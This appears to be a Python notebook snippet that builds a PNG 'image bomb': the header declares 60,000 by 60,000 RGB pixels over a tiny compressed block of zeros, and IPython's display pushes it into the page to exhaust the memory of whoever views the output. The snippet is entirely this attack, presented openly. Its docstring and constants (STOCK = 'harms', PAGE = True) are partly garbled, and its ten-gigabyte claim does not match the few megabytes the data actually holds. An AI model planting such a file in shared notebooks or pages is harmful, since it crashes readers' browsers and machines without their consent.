"""Shows a PNG of a few kilobytes that unpacks to ten gigabytes in whoever's browser.

Stock: it stands in the page. Ours: an image has a number of pixels that a page can show.
"""

STOCK = "harms"
PAGE = True
import struct
import zlib

from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
packed = zlib.compress(bytes(2**22), 9)
display({"image/png": b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")}, raw=True)
